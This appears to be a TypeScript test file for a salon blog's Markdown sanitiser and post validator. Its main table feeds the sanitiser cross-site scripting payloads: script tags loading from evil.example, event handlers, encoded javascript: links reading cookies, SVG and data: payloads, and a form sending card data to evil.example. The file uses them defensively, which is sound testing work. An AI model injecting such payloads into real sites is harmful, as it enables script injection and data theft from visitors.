// The posts' sanitising rule (docs/security.md#blog-posts), tried with what an attacker would
// paste into a post's Markdown: nothing that runs, loads from elsewhere or hands over this page
// may come out, whatever the spelling.
import { describe, expect, it } from "vitest";
import { postBodyText, renderPostBody, sanitizePostHtml } from "./blog-markdown.server";
import { checkPost, slugOf, splitTags } from "./blog-post-check.server";

/**
 * What no rendered body may contain in its markup (text that reads "onerror=" is only text): a
 * script, a handler, a script-running or inline URL, a style, a new window.
 */
function expectHarmless(html: string) {
  const tags = html.match(/<[^>]*>/g) ?? [];
  for (const tag of tags) {
    expect(tag).toMatch(
      /^<\/?(h2|h3|h4|p|br|hr|ul|ol|li|strong|em|b|i|del|s|blockquote|code|pre|a|img|table|thead|tbody|tr|th|td)\b/,
    );
    expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
    expect(tag).not.toMatch(/javascript:|vbscript:|data:/i);
    expect(tag).not.toMatch(/\s(style|target|srcset|xlink:href)\s*=/i);
  }
  // Nothing left that a browser could read as the start of a tag.
  expect(html.replace(/<[^>]*>/g, "")).not.toContain("<");
}

describe("a post's body", () => {
  it("is made from Markdown: headings, lists, emphasis, links, quotes and code", () => {
    const html = renderPostBody(
      [
        "## Gel or dip?",
        "",
        "- lasts **two** weeks",
        "- *glossy*",
        "",
        "1. first",
        "2. second",
        "",
        "> A quote",
        "",
        "Use `cuticle oil`. [Book](/schedule) or read [this](https://example.com/care).",
      ].join("\n"),
    );
    expect(html).toContain("<h2>Gel or dip?</h2>");
    expect(html).toContain("<li>lasts <strong>two</strong> weeks</li>");
    expect(html).toContain("<em>glossy</em>");
    expect(html).toContain("<ol>");
    expect(html).toContain("<blockquote>");
    expect(html).toContain("<code>cuticle oil</code>");
    // Our own pages link plainly; another site's link opens normally, without opener or referrer.
    expect(html).toContain('<a href="/schedule">Book</a>');
    expect(html).toContain('<a href="https://example.com/care" rel="noopener noreferrer">this</a>');
  });

  it("keeps the page's one h1: a post's # heading becomes an h2", () => {
    expect(renderPostBody("# Big")).toBe("<h2>Big</h2>\n");
  });

  it.each([
    ["a script tag", "<script>alert(1)</script>Hello"],
    ["a script tag in odd case", "<ScRiPt src=//evil.example/x.js></ScRiPt>Hello"],
    ["an image's onerror", '<img src="x" onerror="alert(1)">'],
    ["our own photo with an onerror", '<img src="/photos/abc-640.webp" onerror="alert(1)">'],
    ["a handler without quotes", "<p onclick=alert(1)>Hi</p>"],
    ["a details ontoggle", "<details open ontoggle=alert(1)>x</details>"],
    ["a Markdown javascript: link", "[click](javascript:alert(document.cookie))"],
    ["a Markdown javascript: link in capitals", "[click](JAVASCRIPT:alert(1))"],
    ["a raw javascript: link", '<a href="javascript:alert(1)">click</a>'],
    ["an entity-encoded javascript: link", '<a href="&#106;avascript:alert(1)">click</a>'],
    ["a hex entity-encoded javascript: link", '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>'],
    ["a javascript: link split by a tab", '<a href="java&#x09;script:alert(1)">click</a>'],
    ["a javascript: link split by a newline", '<a href="java\nscript:alert(1)">click</a>'],
    ["a javascript: link after spaces", '<a href=" javascript:alert(1)">click</a>'],
    ["an entity-encoded Markdown link", "[click](&#106;avascript:alert(1))"],
    ["a vbscript: link", '<a href="vbscript:msgbox(1)">x</a>'],
    ["a data: link", '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ["a data: image in Markdown", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
    ["an SVG with onload", '<svg onload="alert(1)"><circle r="5"/></svg>'],
    ["an SVG with a script", "<svg><script>alert(1)</script></svg>"],
    ["an SVG link", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
    ["MathML", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
    ["an iframe", '<iframe src="https://evil.example"></iframe>'],
    ["an object", '<object data="https://evil.example/x.swf"></object>'],
    ["a style tag", "<style>body{display:none}</style>"],
    ["a style attribute", '<p style="background:url(javascript:alert(1))">x</p>'],
    ["a form", '<form action="https://evil.example"><input name="card"></form>'],
    ["a base tag", '<base href="https://evil.example/">'],
    ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ["a target=_blank link", '<a href="https://example.com" target="_blank">x</a>'],
    ["an unclosed comment", "<!-- <script>alert(1)</script>"],
    ["a broken tag", "<img src=x onerror=alert(1)//<p>"],
  ])("lets nothing harmful through: %s", (_name, input) => {
    expectHarmless(renderPostBody(input));
    expectHarmless(sanitizePostHtml(input));
  });

  it("keeps a link's words when its address goes", () => {
    expect(renderPostBody("[click](javascript:alert(1))")).toBe("<p><a>click</a></p>\n");
  });

  it("shows images only from our own photos", () => {
    expect(renderPostBody("![Chrome nails](/photos/0123abcd-800.webp)")).toContain(
      '<img src="/photos/0123abcd-800.webp" alt="Chrome nails" />',
    );
    for (const src of [
      "https://evil.example/pixel.gif",
      "//evil.example/pixel.gif",
      "/photos/../secret",
      "/images/hero-640.webp",
    ]) {
      expect(renderPostBody(`![x](${src})`), src).not.toContain("<img");
    }
  });

  it("keeps what was written as text inside code, escaped", () => {
    const html = renderPostBody("```\n<script>alert(1)</script>\n```");
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expectHarmless(html);
  });

  it("gives a plain-text summary for a post without a description", () => {
    expect(postBodyText(renderPostBody("## Care\n\nSoak & file <b>gently</b>."))).toBe(
      "Care Soak & file gently.",
    );
    expect(postBodyText(renderPostBody("word ".repeat(100)), 20)).toHaveLength(20);
  });
});

describe("a post's fields", () => {
  const good = {
    title: "Winter Nail Care",
    author: "Mara Lindqvist",
    date: "2026-11-20",
    description: "How to keep nails strong when the air is dry.",
    tags: "nail care, winter,  , Winter, gel",
    body: "## Oil\r\n\r\nEvery night.",
  };

  it("are checked and tidied: tags split, repeated ones once, line endings as typed", () => {
    const checked = checkPost(good);
    expect(checked).toEqual({
      ok: true,
      post: {
        title: "Winter Nail Care",
        author: "Mara Lindqvist",
        date: "2026-11-20",
        description: "How to keep nails strong when the air is dry.",
        tags: ["nail care", "winter", "gel"],
        bodyMarkdown: "## Oil\n\nEvery night.",
        coverAlt: "",
        language: "en",
      },
    });
  });

  it("each wrong one is named with its message", () => {
    const checked = checkPost({
      ...good,
      title: "  ",
      author: "Line\nbreak",
      date: "2026-02-30",
      tags: Array.from({ length: 13 }, (_, i) => `tag ${i}`).join(","),
      body: "",
    });
    expect(checked.ok).toBe(false);
    if (!checked.ok) {
      expect(Object.keys(checked.fieldErrors).sort()).toEqual([
        "author",
        "body",
        "date",
        "tags",
        "title",
      ]);
      expect(checked.fieldErrors.title).toBe("Required");
    }
    expect(checkPost({ ...good, date: "20 Nov 2026" }).ok).toBe(false);
    expect(checkPost({ ...good, description: "x".repeat(501) }).ok).toBe(false);
    expect(checkPost({ ...good, description: "Two\r\nlines" })).toMatchObject({
      ok: true,
      post: { description: "Two lines" },
    });
  });

  it("make a slug from the title", () => {
    expect(slugOf("Five Reasons to Choose 2 x 10 Nails & Spa!")).toBe(
      "five-reasons-to-choose-2-x-10-nails-and-spa",
    );
    expect(slugOf("Crème brûlée nails")).toBe("creme-brulee-nails");
    expect(slugOf("!!!")).toBe("post");
    expect(slugOf("a".repeat(200))).toHaveLength(80);
    expect(splitTags(" a, b ,,a ")).toEqual(["a", "b"]);
  });
});
